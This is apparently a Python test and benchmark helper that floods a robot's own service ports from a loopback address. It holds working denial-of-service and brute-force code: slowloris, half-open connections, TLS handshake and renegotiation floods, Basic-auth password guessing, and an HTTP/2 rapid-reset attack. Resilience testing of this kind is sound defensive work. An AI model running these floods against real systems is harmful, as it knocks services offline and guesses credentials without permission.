"""Floods of hostile clients on the doors, each from one address, for tests and ``benchmarks/doors/floods.py``."""

from __future__ import annotations

import base64
import contextlib
import resource
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HOSTILE, FRIEND = "127.0.98.66", "127.0.98.7"
GATEWAY = 50090
TLS_PORTS = (1448, 50052, 50053, GATEWAY)
ALL_PORTS = (*TLS_PORTS, 40921, 40922, 40923, 40925)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TRIES_AT_ONCE = 50
CLIENTS = 8  # of OpenSSL, at once
POSE = "/api/core/slam/v1/localization/pose"


def connections(robot: str, ports: tuple[int, ...], count: int) -> Iterator[socket.socket]:
    """Open ones, in turn to each of the ports."""
    for number in range(count):
        with contextlib.suppress(OSError):
            yield socket.create_connection((robot, ports[number % len(ports)]), 5, source_address=(HOSTILE, 0))


def slow_loris(robot: str, count: int, _: Path) -> None:
    """Heads of requests that never end, a byte at a time."""
    held = list(connections(robot, (1448, 50053), min(count, 500)))
    text = f"GET {POSE} HTTP/1.1\r\nHost: x\r\nX: "
    for byte in text.encode():
        for line in held:
            with contextlib.suppress(OSError):
                line.send(bytes([byte]))
    for line in held:
        line.close()


def half_open(robot: str, count: int, _: Path) -> None:
    """Connections on which nothing is ever said."""
    for line in list(connections(robot, ALL_PORTS, count)):
        line.close()


def handshakes(robot: str, count: int, _: Path) -> None:
    """The first message of a TLS handshake, again and again."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for line in connections(robot, TLS_PORTS, count):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        client = context.wrap_bio(incoming, outgoing)
        with contextlib.suppress(ssl.SSLWantReadError):
            client.do_handshake()
        with contextlib.suppress(OSError):
            line.send(outgoing.read())
        line.close()


def log_ins(robot: str, count: int, _: Path) -> None:
    """Guesses of a password, many on each connection, without waiting for answers."""
    for line in connections(robot, (1448,), -(-count // TRIES_AT_ONCE)):
        for number in range(TRIES_AT_ONCE):
            guess = base64.b64encode(f"anna:guess {number}".encode()).decode()
            head = f"GET {POSE} HTTP/1.1\r\nHost: {robot}\r\nAuthorization: Basic {guess}\r\n\r\n"
            with contextlib.suppress(OSError):
                line.sendall(head.encode())
        with contextlib.suppress(OSError):
            line.settimeout(5)
            line.shutdown(socket.SHUT_WR)
            while line.recv(65536):
                pass
        line.close()


def renegotiations(robot: str, count: int, _: Path) -> None:
    """New handshakes (TLS 1.2) and new keys (TLS 1.3) within connections, by OpenSSL's own client."""
    kinds = (("R", "-tls1_2"), ("K", "-tls1_3"))
    clients: dict[int, tuple[bytes, subprocess.Popen[bytes]]] = {}
    for number in range(count):
        place = number % CLIENTS
        letter, client = clients.get(place, (b"", None))
        if client is None or client.poll() is not None:
            wanted, version = kinds[place % 2]
            host = f"{robot}:{TLS_PORTS[0]}"
            command = ["openssl", "s_client", version, "-bind", f"{HOSTILE}:0", "-connect", host]
            letter, client = wanted.encode() + b"\n", subprocess.Popen(command, stdin=-1, stdout=-3, stderr=-3)
            clients[place] = letter, client
        assert client.stdin is not None
        with contextlib.suppress(OSError):
            client.stdin.write(letter)
            client.stdin.flush()
        time.sleep(0.0005)  # s_client consumes one letter of each chunk
    for _letter, client in clients.values():
        client.kill()


def rapid_reset(robot: str, count: int, phone: Path) -> None:
    """HTTP/2 streams that are taken back as soon as they are opened, by an app whose certificate is good."""
    context = ssl.create_default_context(cafile=str(phone / "ca-cert.pem"))
    context.check_hostname = False
    context.load_cert_chain(phone / "client-cert.pem", phone / "client-key.pem")
    context.set_alpn_protocols(["h2"])
    fields = [(":method", "POST"), (":scheme", "https"), (":path", "/grpcapi.GrpcApp/sendMsg"), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
    block = b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)
    stream = 1
    for plain in connections(robot, (50052,), 20):
        with contextlib.suppress(OSError), context.wrap_socket(plain) as line:
            line.settimeout(5)
            line.sendall(PREFACE + _frame(4, 0, 0, b""))
            first = stream
            while stream < first + 2 * count:
                batch = b"".join(
                    _frame(1, 4, number, block) + _frame(3, 0, number, struct.pack("!I", 8))
                    for number in range(stream, stream + 200, 2)
                )
                line.sendall(batch)
                stream += 200
            return


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


FLOODS: dict[str, Callable[[str, int, Path], None]] = {
    "slow loris": slow_loris,
    "half-open": half_open,
    "TLS handshakes": handshakes,
    "log-ins": log_ins,
    "rapid reset": rapid_reset,
}
BY_TOOLS: dict[str, Callable[[str, int, Path], None]] = {"renegotiations": renegotiations}  # not available everywhere


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    (FLOODS | BY_TOOLS)[sys.argv[1]](sys.argv[2], int(sys.argv[3]), Path(sys.argv[4]))
